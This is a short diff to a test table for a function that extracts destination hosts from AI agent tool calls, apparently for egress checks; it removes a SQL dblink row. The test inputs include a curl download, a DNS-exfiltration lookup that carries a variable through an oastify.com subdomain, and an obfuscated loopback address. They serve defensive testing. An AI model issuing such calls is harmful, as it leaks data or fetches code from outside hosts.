@@ -32,7 +32,6 @@ def hosts(tool: str, arguments: dict[str, Any]) -> list[str]:
         ("run_command", {"command": "curl -o x.zip https://a.example/"}, ["a.example"]),
         ("run_python", {"code": "gethostbyname('k.' + x + '.oastify.com')"}, ["oastify.com"]),
         ("git_clone", {"url": "git@a.example:x/y.git"}, ["a.example"]),
-        ("query", {"sql": "SELECT dblink('host=a.example user=x')"}, ["a.example"]),
         ("send_email", {"to": ["x@a.example"], "body": "x"}, ["a.example"]),
         ("connect", {"host": "a.example"}, ["a.example"]),
         ("fetch", {"url": "http://0x7f.1/"}, ["127.0.0.1"]),
